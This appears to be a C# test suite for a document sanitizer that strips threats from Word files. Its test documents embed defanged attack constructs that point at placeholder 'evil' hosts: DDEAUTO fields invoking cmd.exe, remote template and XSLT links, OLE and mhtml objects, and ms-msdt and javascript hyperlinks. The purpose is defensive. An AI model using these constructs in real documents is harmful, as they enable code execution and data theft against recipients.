namespace Sekisho.Sanitizer.Tests.Ooxml;

public sealed class WordThreatTests
{
    private const string Para = "<w:p><w:r><w:t>本文は残る</w:t></w:r></w:p>";
    private const string Ole = "application/vnd.openxmlformats-officedocument.oleObject";

    [Fact]
    public void X01_X02_X03_Macros_of_any_part_name_go_and_the_kind_is_the_one_without()
    {
        var made = Made.Word(Para, "application/vnd.ms-word.document.macroEnabled.main+xml")
            .Part("word/innocent.bin", "application/vnd.ms-office.vbaProject", "MARK-VBA").To("word/document.xml", "rId9", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "innocent.bin")
            .Part("word/data.xml", "application/vnd.ms-word.vbaData+xml", "<x>MARK-DATA</x>").To("word/innocent.bin", "rId1", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData", "data.xml");
        Gone(made, "報告.docm", ["X-01", "X-02", "X-03"], ["MARK-VBA", "MARK-DATA", "macroEnabled", "vbaProject"], out var result);
        Assert.Equal("docx", result.Kind.Key);
        Assert.Equal("報告.docx", result.Report.Output);
        Assert.Equal("dotx", Made.Word(Para, "application/vnd.ms-word.template.macroEnabledTemplate.main+xml").Disarm("a.dotm").Kind.Key);
    }

    [Fact]
    public void X05_X26_X35_Template_mail_merge_and_other_settings_that_reach_outside_go()
    {
        var made = Made.Word(Para).To("word/document.xml", "rId2", "settings", "settings.xml")
            .Part("word/settings.xml", Made.Open + "wordprocessingml.settings+xml", $"<w:settings {Made.W} xmlns:sl=\"http://schemas.openxmlformats.org/schemaLibrary/2006/main\"><w:zoom w:percent=\"100\"/><w:attachedTemplate r:id=\"rId1\"/><w:mailMerge><w:query w:val=\"MARK-QUERY\"/><w:dataSource r:id=\"rId2\"/></w:mailMerge><w:defaultTabStop w:val=\"840\"/>"
                + "<w:rsids><w:rsidRoot w:val=\"00AABBCC\"/></w:rsids><w:attachedSchema w:val=\"MARK-SCHEMA\"/><w:docVars><w:docVar w:name=\"n\" w:val=\"MARK-VAR\"/></w:docVars><w:saveThroughXslt r:id=\"rId3\"/><sl:schemaLibrary><sl:schema sl:uri=\"MARK-LIB\"/></sl:schemaLibrary></w:settings>")
            .To("word/settings.xml", "rId1", "attachedTemplate", "file://evil/MARK.dotm", true).To("word/settings.xml", "rId2", "mailMergeSource", "file:///MARK.mdb", true).To("word/settings.xml", "rId3", "transform", "http://evil/MARK.xslt", true);
        Gone(made, "a.docx", ["X-05", "X-26", "X-35"], ["MARK", "attachedTemplate", "mailMerge", "docVar"], out var result);
        Assert.Contains("defaultTabStop", IndependentReader.Text(result.Out), StringComparison.Ordinal);
    }

    [Fact]
    public void X06_X07_X08_X30_Embedded_and_linked_objects_become_the_picture_that_stood_for_them()
    {
        var made = Made.Word($"{Para}<w:p><w:r><w:object w:dxaOrig=\"1\" w:dyaOrig=\"1\"><v:shape id=\"s1\" style=\"width:50pt;height:50pt\" o:ole=\"\"><v:imagedata r:id=\"rId2\" o:title=\"\"/></v:shape><o:OLEObject Type=\"Embed\" ProgID=\"Package\" ShapeID=\"s1\" DrawAspect=\"Icon\" ObjectID=\"_1\" r:id=\"rId3\"/></w:object></w:r></w:p>"
            + "<w:p><w:r><w:object><v:shape id=\"s2\" style=\"width:50pt;height:50pt\"><v:imagedata r:id=\"rId2\"/></v:shape><o:OLEObject Type=\"Link\" ProgID=\"htmlfile\" ShapeID=\"s2\" r:id=\"rId4\" UpdateMode=\"Always\"/></w:object></w:r></w:p>")
            .Part("word/media/image1.png", "", Made.Png).To("word/document.xml", "rId2", "image", "media/image1.png")
            .Part("word/embeddings/oleObject1.bin", Ole, "MARK-OLE").To("word/document.xml", "rId3", "oleObject", "embeddings/oleObject1.bin")
            .To("word/document.xml", "rId4", "oleObject", "mhtml:http://evil/x!x-usc:http://evil/MARK", true)
            .Part("word/embeddings/x.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "MARK-PACKAGE").To("word/document.xml", "rId5", "package", "embeddings/x.docx");
        Gone(made, "a.docx", ["X-06", "X-07", "X-08"], ["MARK", "OLEObject", "Package"], out var result);
        var text = IndependentReader.Text(result.Out);
        Assert.Contains("<w:pict>", text, StringComparison.Ordinal);
        Assert.Contains("word/media/image1.png", text, StringComparison.Ordinal);
    }

    [Fact]
    public void X09_X15_X16_X22_X23_X31_Controls_ribbons_add_ins_fonts_printers_and_signatures_go()
    {
        var made = Made.Word($"{Para}<w:p><w:r><w:object><v:shape id=\"c\" style=\"width:9pt\"/><w:control r:id=\"rId2\" w:name=\"MARK-CONTROL\" w:shapeid=\"c\"/></w:object></w:r></w:p>")
            .Part("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{MARK}\"/>").To("word/document.xml", "rId2", "control", "activeX/activeX1.xml")
            .Part("customUI/customUI.xml", "application/xml", "<customUI onLoad=\"MARK-UI\"/>").To("", "rId7", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI/customUI.xml")
            .Part("word/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml", "<x>MARK-PANE</x>").To("", "rId8", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml")
            .Part("word/fontTable.xml", Made.Open + "wordprocessingml.fontTable+xml", $"<w:fonts {Made.W}><w:font w:name=\"游明朝\"><w:charset w:val=\"80\"/><w:embedRegular r:id=\"rId1\" w:fontKey=\"{{MARK}}\"/></w:font></w:fonts>").To("word/document.xml", "rId3", "fontTable", "fontTable.xml")
            .Part("word/fonts/font1.odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont", "MARK-FONT").To("word/fontTable.xml", "rId1", "font", "fonts/font1.odttf")
            .Part("word/printerSettings1.bin", "application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings", "MARK-PRINTER").To("word/document.xml", "rId4", "printerSettings", "printerSettings1.bin")
            .Part("_xmlsignatures/origin.sigs", "application/vnd.openxmlformats-package.digital-signature-origin", "MARK-SIG").To("", "rId9", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs");
        Gone(made, "a.docx", ["X-09", "X-15", "X-16", "X-22", "X-23", "X-31"], ["MARK", "activeX", "customUI", "webextension", "odttf", "printerSettings", "_xmlsignatures"], out var result);
        Assert.Contains("游明朝", IndependentReader.Text(result.Out), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k MARK\"", "X-10")]
    [InlineData(" dde excel MARK", "X-10")]
    [InlineData("INCLUDEPICTURE \"http://evil/MARK.png\" \\d", "X-17")]
    [InlineData("INCLUDETEXT \"\\\\\\\\evil\\\\MARK\"", "X-17")]
    [InlineData("LINK Excel.Sheet.8 \"MARK.xls\"", "X-17")]
    [InlineData("HYPERLINK \"file://evil/MARK\"", "X-19")]
    [InlineData("HYPERLINK \"search-ms:query=MARK\"", "X-19")]
    [InlineData("HYPERLINK \"javascript:MARK\"", "X-19")]
    [InlineData("PRINT \"MARK\"", "X-10")]
    [InlineData("EMBED Package MARK", "X-10")]
    [InlineData("ADDIN MARK", "X-10")]
    [InlineData("MARKFIELD", "X-10")]
    public void X10_X17_X19_A_dangerous_field_keeps_its_result_only(string instruction, string threat)
    {
        var attribute = instruction.Replace("\"", "&quot;", StringComparison.Ordinal);
        var simple = Made.Word($"<w:p><w:fldSimple w:instr=\"{attribute}\"><w:r><w:t>結果</w:t></w:r></w:fldSimple></w:p>");
        Gone(simple, "a.docx", [threat], ["MARK"], out var result);
        Assert.Contains("結果", IndependentReader.Text(result.Out), StringComparison.Ordinal);
        // The same as a complex field whose instruction is split over runs.
        var half = instruction.Length / 2;
        var complex = Made.Word(Field([$"<w:instrText xml:space=\"preserve\">{Esc(instruction[..half])}</w:instrText>", $"<w:instrText xml:space=\"preserve\">{Esc(instruction[half..])}</w:instrText>"], "結果"));
        Gone(complex, "a.docx", [threat], half > 4 ? ["MARK"] : [], out result);
        var text = IndependentReader.Text(result.Out);
        Assert.Contains("結果", text, StringComparison.Ordinal);
        Assert.DoesNotContain("fldChar", text, StringComparison.Ordinal);
        Assert.DoesNotContain("instrText", text, StringComparison.Ordinal);
    }

    [Fact]
    public void X10_A_field_whose_type_another_field_makes_up_goes_with_it_wherever_it_stands()
    {
        var quote = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> QUOTE 68 68 69 65 85 84 79 MARK</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>MARK-INNER</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
        var nested = $"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{quote}<w:r><w:instrText> cmd MARK</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>表の結果</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
        var made = Made.Word(Para).Part("word/footnotes.xml", Made.Open + "wordprocessingml.footnotes+xml", $"<w:footnotes {Made.W}><w:footnote w:id=\"1\">{nested}</w:footnote></w:footnotes>").To("word/document.xml", "rId2", "footnotes", "footnotes.xml")
            .Part("word/header1.xml", Made.Open + "wordprocessingml.header+xml", $"<w:hdr {Made.W}>{nested}</w:hdr>").To("word/document.xml", "rId3", "header", "header1.xml");
        Gone(made, "a.docx", ["X-10"], ["MARK", "QUOTE", "fldChar"], out var result);
        Assert.Equal(2, result.Report.Removed.Where(static r => r.Threat == "X-10").Select(static r => r.Place).Distinct().Count());
        Assert.Contains("表の結果", IndependentReader.Text(result.Out), StringComparison.Ordinal);
    }

    [Fact]
    public void Harmless_fields_stay_whole()
    {
        var made = Made.Word(Field(["<w:instrText xml:space=\"preserve\"> TOC \\o &quot;1-3&quot; \\h </w:instrText>"], "目次") + Field(["<w:instrText>PAGE</w:instrText>"], "1") + Field(["<w:instrText> HYPERLINK &quot;https://www.example.lg.jp/&quot; </w:instrText>"], "市のページ")
            + Field(["<w:instrText> HYPERLINK \\l &quot;_Toc1&quot; </w:instrText>"], "章") + Field(["<w:instrText> IF </w:instrText>", "<w:fldChar w:fldCharType=\"begin\"/>", "<w:instrText>PAGE</w:instrText>", "<w:fldChar w:fldCharType=\"end\"/>", "<w:instrText> = 1 &quot;初&quot; &quot;次&quot;</w:instrText>"], "初"));
        var result = made.Disarm("a.docx");
        Assert.Empty(result.Report.Removed);
        var text = IndependentReader.Text(result.Out);
        foreach (var kept in new[] { "TOC \\o", "PAGE", "https://www.example.lg.jp/", "_Toc1", "= 1" }) Assert.Contains(kept, text, StringComparison.Ordinal);
    }

    [Fact]
    public void X10_Text_of_a_macro_button_stays_without_the_button()
    {
        Gone(Made.Word("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> MACROBUTTON  MARKMacro [ここに氏名]</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"), "a.docx", ["X-10"], ["MARK", "MACROBUTTON"], out var result);
        Assert.Contains("[ここに氏名]", IndependentReader.Text(result.Out), StringComparison.Ordinal);
    }

    [Fact]
    public void X17_X18_X20_Remote_pictures_chunks_and_sub_documents_go()
    {
        var made = Made.Word($"{Para}<w:altChunk r:id=\"rId2\"/><w:subDoc r:id=\"rId3\"/><w:p><w:r><w:drawing><wp:inline><wp:extent cx=\"1\" cy=\"1\"/><wp:docPr id=\"1\" name=\"p\"/><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:pic><pic:nvPicPr><pic:cNvPr id=\"1\" name=\"p\"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link=\"rId4\"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
            + "<w:p><w:r><w:pict><v:shape id=\"s\" style=\"width:9pt\" href=\"file://evil/MARK\"><v:imagedata src=\"http://evil/MARK.png\" o:href=\"http://evil/MARK2\"/><v:fill r:id=\"rId4\"/></v:shape></w:pict></w:r></w:p>")
            .Part("word/chunk.html", "text/html", "<script>MARK</script>").To("word/document.xml", "rId2", "aFChunk", "chunk.html").To("word/document.xml", "rId3", "subDocument", "http://evil/MARK.docx", true).To("word/document.xml", "rId4", "image", "http://evil/MARK.png", true)
            .To("word/document.xml", "rId5", "http://example.com/unknown", "http://evil/MARK", true);
        Gone(made, "a.docx", ["X-17", "X-18", "X-19", "X-20"], ["MARK", "altChunk", "subDoc", "chunk.html"], out _);
    }

    [Theory]
    [InlineData("file://evil/share", false)]
    [InlineData("\\\\evil\\share", false)]
    [InlineData("ms-msdt:/id PCWDiagnostic", false)]
    [InlineData("javascript:alert(1)", false)]
    [InlineData("vbscript:x", false)]
    [InlineData("mhtml:http://evil/", false)]
    [InlineData("ldap://evil/", false)]
    [InlineData("https://www.example.lg.jp/%E5%9C%B0%E5%9F%9F?a=1&amp;b=2", true)]
    [InlineData("mailto:soumu@city.example.lg.jp", true)]
    public void X19_Only_links_of_allowed_schemes_stay_links(string address, bool stays)
    {
        var made = Made.Word("<w:p><w:hyperlink r:id=\"rId2\" w:history=\"1\"><w:r><w:t>こちら</w:t></w:r></w:hyperlink></w:p>").To("word/document.xml", "rId2", "hyperlink", address, true);
        var text = IndependentReader.Text(made.Disarm("a.docx").Out);
        Assert.Equal(stays, text.Contains("<w:hyperlink", StringComparison.Ordinal));
        Assert.Equal(stays, text.Contains(address, StringComparison.Ordinal));
        Assert.Contains("こちら", text, StringComparison.Ordinal);
    }

    [Fact]
    public void X21_A_store_stays_only_while_a_control_shows_it()
    {
        const string bound = "{11111111-2222-3333-4444-555555555555}", free = "{99999999-2222-3333-4444-555555555555}", props = "{6C3C8BC8-F283-45AE-878A-BAB7291924A1}";
        var made = Made.Word($"<w:sdt><w:sdtPr><w:dataBinding w:xpath=\"/a/b\" w:storeItemID=\"{bound}\"/></w:sdtPr><w:sdtContent>{Para}</w:sdtContent></w:sdt><w:sdt><w:sdtPr><w:dataBinding w:xpath=\"/c\" w:storeItemID=\"{props}\"/></w:sdtPr><w:sdtContent>{Para}</w:sdtContent></w:sdt>");
        foreach (var (n, id, text) in new[] { (1, bound, "見える値"), (2, free, "MARK-FREE") })
        {
            made.Part($"customXml/item{n}.xml", "", $"<a xmlns=\"urn:x\"><b c=\"1\">{text}</b></a>").To("word/document.xml", $"rId{n + 1}", "customXml", $"../customXml/item{n}.xml")
                .Part($"customXml/itemProps{n}.xml", Made.Open + "customXmlProperties+xml", $"<ds:datastoreItem xmlns:ds=\"http://schemas.openxmlformats.org/officeDocument/2006/customXml\" ds:itemID=\"{id}\"/>").To($"customXml/item{n}.xml", "rId1", "customXmlProps", $"itemProps{n}.xml");
        }
        Gone(made, "a.docx", ["X-21", "X-24"], ["MARK-FREE", free, props], out var result);
        Assert.Contains("見える値", IndependentReader.Text(result.Out), StringComparison.Ordinal);
    }

    [Fact]
    public void X24_Metadata_goes_and_comments_and_changes_follow_the_policy()
    {
        Made Make() => Made.Word("<w:p w:rsidR=\"00MARK01\"><w:commentRangeStart w:id=\"1\"/><w:ins w:id=\"2\" w:author=\"山田\"><w:r><w:t>足した</w:t></w:r></w:ins><w:del w:id=\"3\" w:author=\"山田\"><w:r><w:delText>消した</w:delText></w:r></w:del><w:commentRangeEnd w:id=\"1\"/><w:r><w:commentReference w:id=\"1\"/></w:r></w:p><w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:trPr><w:del w:id=\"5\" w:author=\"a\"/></w:trPr><w:tc><w:p><w:r><w:t>消えた行</w:t></w:r></w:p></w:tc></w:tr><w:tr><w:tc><w:p><w:r><w:t>残る行</w:t></w:r></w:p></w:tc></w:tr></w:tbl>")
            .Part("word/comments.xml", Made.Open + "wordprocessingml.comments+xml", $"<w:comments {Made.W}><w:comment w:id=\"1\" w:author=\"鈴木\"><w:p><w:r><w:t>注釈です</w:t></w:r></w:p></w:comment></w:comments>").To("word/document.xml", "rId2", "comments", "comments.xml")
            .Part("docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml", "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:creator>MARK-AUTHOR</dc:creator><dc:title>MARK-TITLE</dc:title></cp:coreProperties>").To("", "rId5", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml")
            .Part("docProps/app.xml", Made.Open + "extended-properties+xml", "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties\"><Application>Microsoft Office Word</Application><Company>MARK-COMPANY</Company></Properties>").To("", "rId6", "extended-properties", "docProps/app.xml");
        Gone(Make(), "a.docx", ["X-24"], ["MARK"], out var kept);
        var text = IndependentReader.Text(kept.Out);
        Assert.Contains("注釈です", text, StringComparison.Ordinal);
        Assert.Contains("消した", text, StringComparison.Ordinal);
        var strict = Make().Disarm("a.docx", "office:\n  comments: drop\n  tracked-changes: accept\n");
        text = IndependentReader.Text(strict.Out);
        Assert.Contains("足した", text, StringComparison.Ordinal);
        Assert.Contains("残る行", text, StringComparison.Ordinal);
        foreach (var gone in new[] { "注釈です", "鈴木", "山田", "消した", "消えた行", "w:ins", "w:del", "comment" }) Assert.DoesNotContain(gone, text, StringComparison.Ordinal);
        Assert.Contains("MARK-AUTHOR", IndependentReader.Text(Make().Disarm("a.docx", "office:\n  metadata: keep\n").Out), StringComparison.Ordinal);
    }

    [Fact]
    public void X35_The_text_in_smart_tags_and_custom_markup_stays()
    {
        Gone(Made.Word("<w:p><w:smartTag w:uri=\"urn:MARK\" w:element=\"place\"><w:smartTagPr><w:attr w:name=\"n\" w:val=\"MARK\"/></w:smartTagPr><w:r><w:t>鎌倉市</w:t></w:r></w:smartTag></w:p><w:customXml w:uri=\"urn:MARK\" w:element=\"e\"><w:p><w:r><w:t>中身</w:t></w:r></w:p></w:customXml>"), "a.docx", ["X-35"], ["MARK", "smartTag", "customXml"], out var result);
        var text = IndependentReader.Text(result.Out);
        Assert.Contains("鎌倉市", text, StringComparison.Ordinal);
        Assert.Contains("中身", text, StringComparison.Ordinal);
    }

    [Fact]
    public void Alternatives_that_cannot_be_written_give_way_to_their_fallback()
    {
        var made = Made.Word("<w:p><w:r><mc:AlternateContent><mc:Choice xmlns:zz=\"urn:zz\" Requires=\"zz\"><zz:MARK/></mc:Choice><mc:Fallback><w:t>代わり</w:t></mc:Fallback></mc:AlternateContent><mc:AlternateContent><mc:Choice xmlns:wps=\"http://schemas.microsoft.com/office/word/2010/wordprocessingShape\" Requires=\"wps\"><w:t>新しい</w:t></mc:Choice><mc:Fallback><w:t>古い</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>");
        Gone(made, "a.docx", [], ["MARK"], out var result);
        var text = IndependentReader.Text(result.Out);
        foreach (var kept in new[] { "<w:r><w:t>代わり</w:t><mc:AlternateContent><mc:Choice", "新しい", "古い", "Requires=\"wps\"" }) Assert.Contains(kept, text, StringComparison.Ordinal);
    }

    internal static void Gone(Made made, string name, string[] threats, string[] marks, out Result result)
    {
        var input = made.Bytes();
        var before = IndependentReader.Text(input);
        result = Made.Check(name, input);
        var after = IndependentReader.Text(result.Out);
        foreach (var mark in marks)
        {
            Assert.Contains(mark, before, StringComparison.Ordinal);
            Assert.DoesNotContain(mark, after, StringComparison.Ordinal);
        }
        Assert.Empty(threats.Except(result.Threats));
    }

    private static string Field(string[] inside, string shown) =>
        $"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{string.Concat(inside.Select(static i => $"<w:r>{i}</w:r>"))}<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>{shown}</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";

    private static string Esc(string text) => text.Replace("&", "&amp;", StringComparison.Ordinal).Replace("\"", "&quot;", StringComparison.Ordinal);
}
